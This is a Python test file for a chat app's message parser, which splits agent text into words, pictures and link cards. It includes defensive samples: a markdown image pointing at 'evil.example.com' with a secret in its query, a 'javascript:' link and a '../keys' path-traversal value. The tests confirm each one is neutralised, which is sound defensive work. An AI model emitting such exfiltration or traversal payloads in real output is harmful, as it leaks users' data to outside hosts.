"""Pictures and cards in agents' words, and what is never made of the assistant's."""

from __future__ import annotations

import msgspec
import pytest
from hypothesis import given
from hypothesis import strategies as st

from miaohui.channels.media.types import id_of
from miaohui.channels.threads.parts import Card, Picture, Words, plain, read_part, split_message
from miaohui.conversations.types import Message

SAID = Message(id="m", conversation_id="c", seq=1, sender="agent", sender_id="a", text="")


def parts(text: str, *, by: str = "agent") -> list[object]:
    message = msgspec.structs.replace(SAID, text=text, sender=by)
    return [read_part(one) for one in split_message(message, 2048)]


def test_pictures_and_cards_stand_apart_from_words() -> None:
    text = "请看:\n![图](/v1/media/med_1)\n[退货政策](https://x.example.com/a)\n> 七天内\n好了吗?"
    assert parts(text) == [
        Words("请看:"),
        Picture("/v1/media/med_1", "图"),
        Card("退货政策", "https://x.example.com/a", "七天内"),
        Words("好了吗?"),
    ]


@pytest.mark.parametrize(
    "text",
    ["见 [退货](https://x.example.com/)", "[退货](javascript:alert)", "![a b](c d)", "[](https://x.example.com/)", "!"],
)
def test_what_only_resembles_them_stays_words(text: str) -> None:
    assert parts(text) == [Words(text)]


def test_no_address_in_the_assistants_words_is_fetched() -> None:
    text = "好的 ![x](https://evil.example.com/?q=secret)"
    assert parts(text, by="assistant") == [Words("好的 x https://evil.example.com/?q=secret")]
    assert isinstance(parts(text)[1], Picture)


@given(st.text(alphabet="![]()> \nabhtps:/.x好😀", max_size=200))
def test_no_words_are_lost_in_parts(text: str) -> None:
    message = msgspec.structs.replace(SAID, text=text)
    assert "".join("".join(split_message(message, 40)).split()) == "".join(text.split())
    told = msgspec.structs.replace(message, sender="assistant")
    assert not any(isinstance(read_part(one), Picture) for one in split_message(told, 2048))


def test_marks_become_words() -> None:
    text = "**注意** 见 [政策](https://x.example.com/)"
    assert plain(text) == "注意 见 政策: https://x.example.com/"
    assert plain(text, '<a href="{url}">{title}</a>') == '注意 见 <a href="https://x.example.com/">政策</a>'


def test_only_addresses_of_ours_name_a_file_of_ours() -> None:
    assert id_of("/v1/media/med_1") == "med_1"
    assert id_of("https://x.example.com/v1/media/med_1") == ""
    assert id_of("/v1/media/../keys") == ""
